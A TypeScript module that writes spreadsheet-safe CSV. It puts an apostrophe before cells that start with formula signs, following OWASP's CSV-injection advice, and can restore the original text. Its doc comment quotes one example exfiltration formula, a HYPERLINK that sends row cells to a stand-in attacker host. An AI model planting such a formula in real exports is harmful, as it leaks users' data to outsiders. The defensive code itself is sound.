import { type Stringifier, stringify } from 'csv-stringify';

/**
 * CSV that is safe to open in a spreadsheet. Excel, LibreOffice and Google Sheets run a cell
 * that starts with `=`, `+`, `-` or `@` as a formula (and some drop a leading tab or carriage
 * return first, or fold the full-width forms of those signs), so a published title such as
 * `=HYPERLINK("https://evil.example/?leak="&A2,"Open report")` would send the other cells of the
 * row to a stranger when clicked. As OWASP recommends ("CSV Injection"), such a text cell is
 * written with a leading apostrophe, which spreadsheets take as "this is text" and do not show;
 * quoting (commas, quotes, line breaks) is left to csv-stringify.
 *
 *   neutraliseFormula('=1+1')    // "'=1+1"
 *   neutraliseFormula("'=1+1")   // "''=1+1": a cell that already starts with apostrophes gets one more
 *   restoreFormula("''=1+1")     // "'=1+1": what was written, read back exactly
 *   neutraliseFormula('Lisbon')  // "Lisbon"
 *
 * The apostrophes before a trigger are counted too, so that reading back (`restoreFormula`)
 * gives exactly the text that was written, and an export imports and exports again byte for byte.
 */
const AFTER_APOSTROPHES = /^'*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NEUTRALISED = /^'+[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A text cell as it may be written to CSV: with an apostrophe before a formula's first sign. */
export function neutraliseFormula(text: string): string {
  return AFTER_APOSTROPHES.test(text) ? `'${text}` : text;
}

/** The text a cell written by `neutraliseFormula` held. */
export function restoreFormula(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}

/**
 * A CSV writer with a header row whose text cells go through `neutraliseFormula`. Numbers the
 * caller passes as numbers (years, counts) are written as they are: they are not user text, and
 * a negative number must stay a number in a spreadsheet.
 */
export function createCsvStringifier(columns: readonly string[]): Stringifier {
  return stringify({
    header: true,
    columns: [...columns],
    // A cell starting or ending with white space is quoted, so that no reader trims it.
    quoted_match: /^\s|\s$/,
    cast: { string: (value) => neutraliseFormula(value) },
  });
}
